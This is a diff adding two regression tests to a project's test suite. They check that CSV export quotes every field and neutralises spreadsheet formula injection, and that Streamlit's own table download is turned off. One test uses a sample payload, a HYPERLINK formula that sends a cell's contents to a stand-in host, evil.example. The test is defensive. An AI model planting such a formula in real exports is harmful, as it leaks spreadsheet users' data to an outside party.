@@ -7,6 +7,7 @@ from __future__ import annotations
 import csv
 import io
 import json
+import tomllib
 from datetime import date
 from pathlib import Path
 
@@ -301,6 +302,33 @@ def test_csv_round_trip(dataset: Dataset, tmp_path: Path):
         dataset.events,
         dataset.quotes,
     )
+
+
+def test_csv_quotes_every_field_and_neutralises_a_formula_that_got_past_the_validator():
+    """Issue 23: a speaker like `=HYPERLINK(...)` must not reach a spreadsheet as a formula,
+    even from records built without the validator; numbers stay numbers."""
+    quote = FX.quotes[0]
+    evil = '=HYPERLINK("https://evil.example/?leak="&B2,"x")'
+    forged = quote.model_construct(**{**quote.model_dump(), "speaker": evil, "role": "@x"})
+    place = FX.jurisdictions[0]
+    text = tables.records_csv([forged], FILES[2]).decode("utf-8")
+    lines = text.splitlines()
+    assert lines[0] == ",".join(f'"{name}"' for name in FILES[2].columns)
+    row = next(csv.DictReader(io.StringIO(text)))
+    assert row["speaker"] == "'" + evil
+    assert row["role"] == "'@x"
+    assert all(
+        field.startswith('"') for field in next(csv.reader([lines[1]], quoting=csv.QUOTE_NONE))
+    )
+    places = tables.records_csv([place], FILES[0]).decode("utf-8")
+    assert next(csv.DictReader(io.StringIO(places)))["lon"] == str(place.lon)
+
+
+def test_streamlit_s_own_table_download_is_off():
+    """Issue 23: st.dataframe's toolbar "Download as CSV" writes cells as they are, so the app
+    turns data export off (`client.disableDataExport`); the About page offers the safe CSVs."""
+    config = tomllib.loads((PROJECT_ROOT / ".streamlit" / "config.toml").read_text("utf-8"))
+    assert config["client"]["disableDataExport"] is True
 
 
 def test_csv_of_the_fixture_equals_the_file_row_for_row():
